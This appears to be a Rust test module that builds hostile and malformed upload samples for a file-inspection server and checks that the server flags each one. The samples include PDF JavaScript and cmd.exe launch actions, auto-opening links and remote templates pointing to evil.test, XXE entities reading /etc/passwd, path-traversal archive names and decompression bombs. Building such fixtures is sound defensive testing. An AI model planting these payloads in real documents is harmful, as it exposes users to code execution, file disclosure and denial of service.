//! The hostile and the broken, by families; each family many times, a little different each time.

use server::inspect::Flaw;

use super::samples::{
    Part, SHEET, WORD, central, chunk, docx, docx_with, end, jpeg, jpeg_with, links, local,
    object_stream, part, pdf, pdf_with, png, png_with, stored, stream, types, whole, xlsx, zip,
    zlib,
};

/// How often each family comes.
const TIMES: u64 = 17;
/// Mutations of whole files.
pub(crate) const MUTATIONS: u64 = 1000;

/// A file that is not to be taken.
pub(crate) struct Case {
    pub(crate) family: &'static str,
    pub(crate) bytes: Vec<u8>,
    pub(crate) name: &'static str,
    /// Whether this is what is to be said of it.
    pub(crate) told: fn(&Flaw) -> bool,
}

/// Chance that can be drawn again.
pub(crate) struct Chance(u64);

impl Chance {
    fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    fn draw(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, limit: usize) -> usize {
        usize::try_from(self.draw() % limit as u64).unwrap()
    }

    fn bytes(&mut self, count: usize) -> Vec<u8> {
        (0..count).map(|_| self.draw().to_le_bytes()[3]).collect()
    }
}

macro_rules! told {
    ($($flaw:pat_param)|+) => {
        |flaw: &Flaw| matches!(flaw, $($flaw)|+)
    };
}

type Family = (&'static str, &'static str, fn(&mut Chance) -> Vec<u8>, fn(&Flaw) -> bool);

fn cut(bytes: &[u8], chance: &mut Chance) -> Vec<u8> {
    bytes[..12 + chance.below(bytes.len() - 24)].to_vec()
}

/// A PDF with this in its catalogue.
fn catalogue(words: &str) -> Vec<u8> {
    pdf_with(words, &[])
}

/// A PDF with this as an object.
fn object(words: &str, chance: &mut Chance) -> Vec<u8> {
    let blank = " ".repeat(chance.below(70_000));
    pdf_with("", &[format!("5 0 obj\n{blank}{words}\nendobj\n").into_bytes()])
}

fn word(more: &[Part]) -> Vec<u8> {
    docx_with(more)
}

fn html(chance: &mut Chance) -> Vec<u8> {
    format!("<html><script>let a = {}</script></html>\n", chance.draw()).into_bytes()
}

/// Two parts whose bytes are the same place.
fn overlapping(chance: &mut Chance) -> Vec<u8> {
    let one = part("word/document.xml", vec![b'<'; 1000 + chance.below(1000)]);
    let two = types(WORD);
    let mut file = local(&two);
    let place = file.len();
    file.extend(local(&one));
    let directory = [central(&two, 0), central(&one, place), central(&one, place)].concat();
    let at = file.len();
    file.extend_from_slice(&directory);
    file.extend(end(3, directory.len(), at));
    file
}

/// A part that the directory does not know lies between two others.
fn hidden(chance: &mut Chance) -> Vec<u8> {
    let (first, last) = (types(WORD), part("word/document.xml", "<a/>"));
    let mut file = local(&first);
    file.extend(local(&part("word/vbaProject.bin", chance.bytes(50))));
    let place = file.len();
    file.extend(local(&last));
    let directory = [central(&first, 0), central(&last, place)].concat();
    let at = file.len();
    file.extend_from_slice(&directory);
    file.extend(end(2, directory.len(), at));
    file
}

/// An OLE file that holds this name.
fn ole(name: &str, chance: &mut Chance) -> Vec<u8> {
    let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    let count = 65_530 + chance.below(10);
    bytes.extend(chance.bytes(count));
    bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.extend(chance.bytes(100));
    bytes
}

/// Each part stays within the ratio; together they are too much.
fn many_large(_: &mut Chance) -> Vec<u8> {
    let mut noise = Chance::new(7).bytes(1 << 20);
    noise.resize(64 << 20, 0);
    let one = part("word/media/a.bin", noise);
    let more: Vec<Part> =
        (0..4).map(|at| Part { name: format!("word/media/{at}.bin"), ..one.clone() }).collect();
    word(&more)
}

fn nested(chance: &mut Chance) -> Vec<u8> {
    let inner = zip(&[types(SHEET), part("a.bin", chance.bytes(10))]);
    let middle = zip(&[types(SHEET), stored("b.xlsx", inner)]);
    word(&[stored("word/embeddings/c.xlsx", middle)])
}

const EXTERNAL: &str = "<Relationship Id=\"r1\" Type=\"http://x/relationships/attachedTemplate\" Target=\"https://evil.test/a.dotm\" TargetMode=\"External\"/>";

const FAMILIES: &[Family] = &[
    ("empty", "a.pdf", |_| vec![], told!(Flaw::Empty)),
    ("noise", "a.pdf", |c| [b"MZ".to_vec(), c.bytes(500)].concat(), told!(Flaw::Unknown)),
    ("a page of the web", "a.pdf", html, told!(Flaw::Unknown)),
    ("a drawing that runs", "a.png", |_| b"<svg onload='x'/>".to_vec(), told!(Flaw::Unknown)),
    (
        "another picture",
        "a.jpg",
        |c| [b"GIF89a".to_vec(), c.bytes(90)].concat(),
        told!(Flaw::Unknown),
    ),
    ("an old document", "a.doc", |c| ole("WordDocument", c), told!(Flaw::OldOffice)),
    (
        "a document behind a password",
        "a.docx",
        |c| ole("EncryptedPackage", c),
        told!(Flaw::ArchiveEncrypted),
    ),
    ("a PDF that breaks off", "a.pdf", |c| cut(&pdf(), c), told!(Flaw::Truncated)),
    ("a PNG that breaks off", "a.png", |c| cut(&png(), c), told!(Flaw::Truncated | Flaw::Broken)),
    ("a JPEG that breaks off", "a.jpg", |c| cut(&jpeg(), c), told!(Flaw::Truncated | Flaw::Broken)),
    (
        "a DOCX that breaks off",
        "a.docx",
        |c| cut(&docx(), c),
        told!(Flaw::Truncated | Flaw::Polyglot),
    ),
    ("a PDF named DOCX", "a.docx", |_| pdf(), told!(Flaw::Mislabelled { .. })),
    ("a picture named PDF", "a.pdf", |_| png(), told!(Flaw::Mislabelled { .. })),
    ("a table named document", "a.docx", |_| xlsx(), told!(Flaw::Mislabelled { .. })),
    ("a PDF named program", "a.pdf.exe", |_| pdf(), told!(Flaw::Mislabelled { .. })),
    (
        "a page of the web before a PDF",
        "a.pdf",
        |c| [html(c), pdf()].concat(),
        told!(Flaw::Polyglot),
    ),
    (
        "an archive behind a PDF",
        "a.pdf",
        |c| [pdf(), zip(&[part("a", c.bytes(99))])].concat(),
        told!(Flaw::Polyglot),
    ),
    (
        "an archive in a PDF",
        "a.pdf",
        |c| {
            let mut inner = zip(&[part("a.class", c.bytes(99))]);
            let at = inner.len() - 2;
            inner[at] = c.bytes(1)[0] % 60;
            pdf_with("", &[stream(5, "", &inner)])
        },
        told!(Flaw::Polyglot),
    ),
    ("a script behind a PDF", "a.pdf", |c| [pdf(), html(c)].concat(), told!(Flaw::Polyglot)),
    (
        "a script in a PDF",
        "a.pdf",
        |c| object("<< /S /JavaScript /JS (app.alert(1)) >>", c),
        told!(Flaw::PdfActive("脚本")),
    ),
    (
        "a script in disguise",
        "a.pdf",
        |c| object("<</S/J#61va#53cript/JS 9 0 R>>", c),
        told!(Flaw::PdfActive("脚本")),
    ),
    (
        "a script in a packed object",
        "a.pdf",
        |c| {
            let title = format!("<< /Title ({}) >>", "x".repeat(c.below(200)));
            let script = "<< /S /JavaScript /JS (x) >>";
            pdf_with("", &[object_stream(5, "/Type /ObjStm", &[(7, &title), (8, script)])])
        },
        told!(Flaw::PdfActive("脚本")),
    ),
    (
        "a script in a packed object without a name",
        "a.pdf",
        |_| pdf_with("", &[object_stream(5, "", &[(8, "<< /S /JavaScript >>")])]),
        told!(Flaw::PdfActive("脚本")),
    ),
    (
        "a script inside of a picture",
        "a.pdf",
        |c| {
            let mut bytes = vec![b'x'; c.below(80_000)];
            bytes.extend(b"\n9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n");
            pdf_with("", &[stream(5, "/Subtype /Image", &bytes)])
        },
        told!(Flaw::PdfActive("脚本")),
    ),
    (
        "a program that is started",
        "a.pdf",
        |c| object("<< /S /Launch /F (cmd.exe) >>", c),
        told!(Flaw::PdfActive(_)),
    ),
    (
        "a file in a PDF",
        "a.pdf",
        |c| object("<< /Names << /EmbeddedFiles 9 0 R >> >>", c),
        told!(Flaw::PdfActive("附带的文件")),
    ),
    (
        "a file in a PDF without a name",
        "a.pdf",
        |c| object("<< /Type /Filespec /EF << /F 9 0 R >> >>", c),
        told!(Flaw::PdfActive("附带的文件")),
    ),
    (
        "a form that runs",
        "a.pdf",
        |c| object("<< /AcroForm << /XFA [(a) 9 0 R] >> >>", c),
        told!(Flaw::PdfActive(_)),
    ),
    ("a film", "a.pdf", |c| object("<< /Subtype /RichMedia >>", c), told!(Flaw::PdfActive(_))),
    (
        "an address that opens by itself",
        "a.pdf",
        |_| catalogue("/OpenAction << /S /URI /URI (https://evil.test) >>"),
        told!(Flaw::PdfActive(_)),
    ),
    (
        "an address that opens by itself, elsewhere",
        "a.pdf",
        |_| {
            let action = b"5 0 obj\n<< /S /URI /URI (https://evil.test) >>\nendobj\n".to_vec();
            pdf_with("/OpenAction 5 0 R", &[action])
        },
        told!(Flaw::PdfActive(_)),
    ),
    (
        "an address that opens by itself, packed",
        "a.pdf",
        |_| {
            let objects = [(7, "<< /Title (x) >>"), (8, "<</S/URI/URI(https://evil.test)>>")];
            pdf_with("/OpenAction 8 0 R", &[object_stream(5, "/Type/ObjStm", &objects)])
        },
        told!(Flaw::PdfActive(_)),
    ),
    (
        "what happens by itself",
        "a.pdf",
        |_| catalogue("/AA << /WC 9 0 R >>"),
        told!(Flaw::PdfActive(_)),
    ),
    (
        "a PDF behind a password",
        "a.pdf",
        |c| object("<< /Encrypt 9 0 R >>", c),
        told!(Flaw::PdfEncrypted),
    ),
    (
        "objects that unpack without end",
        "a.pdf",
        |c| {
            let bytes = zlib(&vec![b' '; (3 << 20) + c.below(1 << 20)]);
            pdf_with("", &[stream(5, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &bytes)])
        },
        told!(Flaw::Inflates),
    ),
    (
        "objects packed oddly",
        "a.pdf",
        |c| {
            let head =
                ["/Filter /LZWDecode", "/Filter [/ASCIIHexDecode /FlateDecode]", "/Filter 9 0 R"];
            let head = format!("/Type /ObjStm /N 1 /First 4 {}", head[c.below(3)]);
            pdf_with("", &[stream(5, &head, b"1 0 <</A 1>>")])
        },
        told!(Flaw::PdfOdd),
    ),
    (
        "brackets without end",
        "a.pdf",
        |c| object(&"<</A".repeat(300 + c.below(9000)), c),
        told!(Flaw::Broken),
    ),
    (
        "a PDF without a page",
        "a.pdf",
        |_| b"%PDF-1.4\nstartxref\n0\n%%EOF\n".to_vec(),
        told!(Flaw::Broken),
    ),
    ("macros", "a.docx", |c| word(&[part("word/vbaProject.bin", c.bytes(50))]), told!(Flaw::Macro)),
    (
        "macros by type",
        "a.docx",
        |_| zip(&[types("application/vnd.ms-word.document.macroEnabled.main+xml")]),
        told!(Flaw::Macro),
    ),
    (
        "macros in an object",
        "a.docx",
        |c| word(&[part("word/embeddings/a.bin", ole("_VBA_PROJECT", c))]),
        told!(Flaw::Macro),
    ),
    (
        "a program in an object",
        "a.docx",
        |c| word(&[part("word/embeddings/a.bin", ole("\u{1}Ole10Native", c))]),
        told!(Flaw::Program),
    ),
    (
        "a program inside",
        "a.xlsx",
        |c| zip(&[types(SHEET), part("xl/a.bin", [b"MZ".to_vec(), c.bytes(90)].concat())]),
        told!(Flaw::Program),
    ),
    (
        "a script inside",
        "a.docx",
        |c| word(&[part("word/a.vbs", c.bytes(9))]),
        told!(Flaw::Program),
    ),
    ("a template from elsewhere", "a.docx", |_| word(&[links(EXTERNAL)]), told!(Flaw::External)),
    (
        "a template in disguise",
        "a.docx",
        |_| word(&[links(&EXTERNAL.replace("\"External\"", "'&#69;xternal'"))]),
        told!(Flaw::External),
    ),
    (
        "a link that is no address",
        "a.docx",
        |_| {
            word(&[links(
                "<Relationship Type='x/hyperlink' Target='file://evil.test/a' TargetMode='External'/>",
            )])
        },
        told!(Flaw::External),
    ),
    (
        "entities",
        "a.docx",
        |c| {
            let blank = " ".repeat(c.below(70_000));
            word(&[part("word/a.xml", format!("{blank}<!DOCTYPE a [<!ENTITY b \"c\">]><a/>"))])
        },
        told!(Flaw::Dtd),
    ),
    (
        "entities in two bytes a letter",
        "a.docx",
        |_| {
            let text =
                "\u{FEFF}<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>";
            let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            word(&[part("word/a.xml", bytes)])
        },
        told!(Flaw::Dtd),
    ),
    (
        "a bomb",
        "a.docx",
        |c| word(&[part("word/a.xml", vec![b' '; (2 << 20) + c.below(1 << 20)])]),
        told!(Flaw::Inflates),
    ),
    (
        "too many parts",
        "a.docx",
        |c| {
            let more: Vec<Part> =
                (0..2000 + c.below(9)).map(|at| part(&format!("word/{at}.xml"), "")).collect();
            word(&more)
        },
        told!(Flaw::TooManyParts),
    ),
    ("parts on top of each other", "a.docx", overlapping, told!(Flaw::ArchiveForged)),
    ("a part that hides", "a.docx", hidden, told!(Flaw::ArchiveForged)),
    (
        "a size that lies",
        "a.docx",
        |c| {
            let part = part("word/a.xml", vec![b' '; 5000 + c.below(900)]);
            word(&[Part { stated: 10, ..part }])
        },
        told!(Flaw::ArchiveForged),
    ),
    (
        "a sum that lies",
        "a.docx",
        |c| {
            let part = part("word/a.xml", c.bytes(500));
            word(&[Part { sum: part.sum ^ 1, ..part }])
        },
        told!(Flaw::ArchiveForged),
    ),
    ("archives in archives in archives", "a.docx", nested, told!(Flaw::Nested)),
    (
        "a bomb in an archive",
        "a.docx",
        |_| {
            let inner = zip(&[types(SHEET), part("a.xml", vec![b' '; 3 << 20])]);
            word(&[stored("word/embeddings/c.xlsx", inner)])
        },
        told!(Flaw::Inflates),
    ),
    (
        "a way out",
        "a.docx",
        |c| {
            let names = ["../a.xml", "/etc/passwd", "word\\..\\..\\a", "C:/a", "a/../../b"];
            word(&[part(names[c.below(5)], "x")])
        },
        told!(Flaw::ArchiveForged),
    ),
    (
        "an archive behind a password",
        "a.docx",
        |_| word(&[Part { flags: 1, ..part("word/a.xml", "x") }]),
        told!(Flaw::ArchiveEncrypted),
    ),
    (
        "something before an archive",
        "a.docx",
        |c| [b"PK\x03\x04".to_vec(), c.bytes(30), docx()].concat(),
        told!(Flaw::ArchiveForged),
    ),
    (
        "something behind an archive",
        "a.docx",
        |c| [docx(), html(c)].concat(),
        told!(Flaw::Polyglot),
    ),
    (
        "an archive of anything",
        "a.docx",
        |c| zip(&[part("a.txt", c.bytes(9))]),
        told!(Flaw::Unknown),
    ),
    (
        "a picture as large as a field",
        "a.png",
        |c| {
            let side = 20_001 + u32::try_from(c.below(1 << 20)).unwrap();
            png_with(side, 3, &[])
        },
        told!(Flaw::TooManyPixels { .. }),
    ),
    (
        "a photograph as large as a field",
        "a.jpg",
        |_| jpeg_with(60_000, 60_000, 1),
        told!(Flaw::TooManyPixels { .. }),
    ),
    ("something behind a PNG", "a.png", |c| [png(), c.bytes(40)].concat(), told!(Flaw::Polyglot)),
    (
        "an archive behind a photograph",
        "a.jpg",
        |c| [jpeg(), zip(&[part("a", c.bytes(99))])].concat(),
        told!(Flaw::Polyglot),
    ),
    (
        "a script behind a photograph",
        "a.jpg",
        |c| [jpeg(), html(c)].concat(),
        told!(Flaw::Polyglot),
    ),
    ("a photograph without end", "a.jpg", |_| jpeg_with(8, 8, 101), told!(Flaw::Broken)),
    (
        "a PNG with a wrong sum",
        "a.png",
        |_| {
            let mut bytes = png();
            bytes[29] ^= 1;
            bytes
        },
        told!(Flaw::Broken),
    ),
    (
        "a PNG of profiles",
        "a.png",
        |_| png_with(8, 8, &[chunk(*b"iCCP", &vec![0; (8 << 20) + 1])]),
        told!(Flaw::Broken),
    ),
];

/// Every family, many times; what is large comes once.
pub(crate) fn cases() -> impl Iterator<Item = Case> {
    let family = |(family, name, make, told): Family, chance: &mut Chance| Case {
        family,
        bytes: make(chance),
        name,
        told,
    };
    let all = (0..TIMES).flat_map(move |time| {
        FAMILIES
            .iter()
            .enumerate()
            .map(move |(at, one)| family(*one, &mut Chance::new(time * 1000 + at as u64 + 1)))
    });
    let large: Family = ("too much altogether", "a.docx", many_large, told!(Flaw::Inflates));
    all.chain(std::iter::once(family(large, &mut Chance::new(1))))
}

/// Whole files with something changed, cut out, doubled or put in.
pub(crate) fn mutations() -> impl Iterator<Item = (Vec<u8>, &'static str)> {
    let whole = whole();
    (0..MUTATIONS).map(move |seed| {
        let mut chance = Chance::new(seed + 1_000_000);
        let (mut bytes, name) = whole[chance.below(whole.len())].clone();
        for _ in 0..=chance.below(8) {
            let at = chance.below(bytes.len());
            let length = chance.below(40).min(bytes.len() - at);
            match chance.below(5) {
                0 => bytes[at] ^= 1 << chance.below(8),
                1 => bytes[at] = chance.bytes(1)[0],
                2 if bytes.len() > length + 1 => drop(bytes.drain(at..at + length)),
                3 => {
                    let again = bytes[at..at + length].to_vec();
                    bytes.splice(at..at, again);
                }
                _ => {
                    let noise = chance.bytes(length);
                    bytes.splice(at..at, noise);
                }
            }
        }
        (bytes, name)
    })
}
